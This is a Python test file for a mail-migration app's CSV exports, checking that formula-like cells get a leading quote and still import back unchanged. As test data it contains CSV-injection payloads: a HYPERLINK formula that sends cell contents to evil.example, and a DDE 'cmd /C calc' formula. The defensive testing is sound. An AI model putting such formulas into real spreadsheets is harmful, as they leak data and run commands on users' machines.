"""Every CSV mailferry writes is safe to open in a spreadsheet: a cell that starts like a
formula (OWASP "CSV Injection": = + - @ tab CR) gets a leading quote, numbers stay numbers, and
the mailbox export still imports back to the same values."""

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from mailboxes.csvio import import_mailboxes
from mailboxes.csvsafe import FORMULA_STARTS

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
NAMES = [HYPERLINK, "+1 555 0100", "-Ann", "@SUM(1+1)", "\tTabbed", "\rReturned"]


def rows(response) -> list[dict]:
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))


def risky(value: str) -> bool:
    """A text cell a spreadsheet would run; a number (even a negative one) is written as is."""
    try:
        int(value)
    except ValueError:
        return value.startswith(FORMULA_STARTS)
    return False


@pytest.fixture
def named(project):
    """One mailbox per dangerous display name, and one whose address itself starts with '-'."""
    for n, name in enumerate(NAMES):
        project.mailboxes.create(
            source_address=f"user{n}@old.example",
            target_address=f"user{n}@new.example",
            display_name=name,
        )
    project.mailboxes.create(
        source_address="-dash@old.example", target_address="=eq@new.example", display_name="Dash"
    )
    return project


def test_export_quotes_formula_cells_and_round_trips(client, bob, named):
    client.force_login(bob)
    response = client.get(reverse("mailbox_export", args=[named.pk]))
    exported = rows(response)
    cells = [value for row in exported for value in row.values()]
    assert not [value for value in cells if risky(value)]
    by_source = {row["source_address"]: row for row in exported}
    assert by_source["user0@old.example"]["display_name"] == "'" + HYPERLINK
    assert by_source["'-dash@old.example"]["target_address"] == "'=eq@new.example"

    before = list(named.mailboxes.order_by("pk").values())
    result = import_mailboxes(named, response.content)
    assert (result.created, result.updated, result.unchanged) == (0, 0, len(NAMES) + 1)
    assert list(named.mailboxes.order_by("pk").values()) == before
    assert named.mailboxes.filter(display_name=HYPERLINK).exists()


def test_a_quoted_cell_in_a_hand_written_file_imports_without_its_quote(project):
    data = "source_address,target_address,display_name\r\nann@old.example,ann@new.example,'=1+1\r\n"
    import_mailboxes(project, data.encode())
    assert project.mailboxes.get().display_name == "=1+1"


def test_final_report_quotes_formula_cells_and_keeps_numbers(client, bob, named):
    named.mailboxes.filter(display_name="-Ann").update(
        error="=cmd|' /C calc'!A0", items_on_target=-3
    )
    client.force_login(bob)
    report = rows(client.get(reverse("project_report", args=[named.pk])))
    assert not [value for row in report for value in row.values() if risky(value)]
    ann = next(row for row in report if row["display_name"] == "'-Ann")
    assert ann["error"] == "'=cmd|' /C calc'!A0"
    assert (ann["passes"], ann["items_on_target"]) == ("0", "-3")


def test_readiness_csv_quotes_formula_cells(client, bob, named):
    report = {
        "items": 12,
        "bytes": 3400,
        "problems": [{"blocking": False, "text": "ignored"}],
        "discovered_at": "2026-12-01T10:00:00+00:00",
    }
    named.mailboxes.update(discovery=report, discovered_at=timezone.now())
    client.force_login(bob)
    readiness = rows(client.get(reverse("project_readiness_csv", args=[named.pk])))
    assert not [value for row in readiness for value in row.values() if risky(value)]
    dash = next(row for row in readiness if row["source_address"] == "'-dash@old.example")
    assert dash["target_address"] == "'=eq@new.example"
    assert (dash["items"], dash["bytes"]) == ("12", "3400")
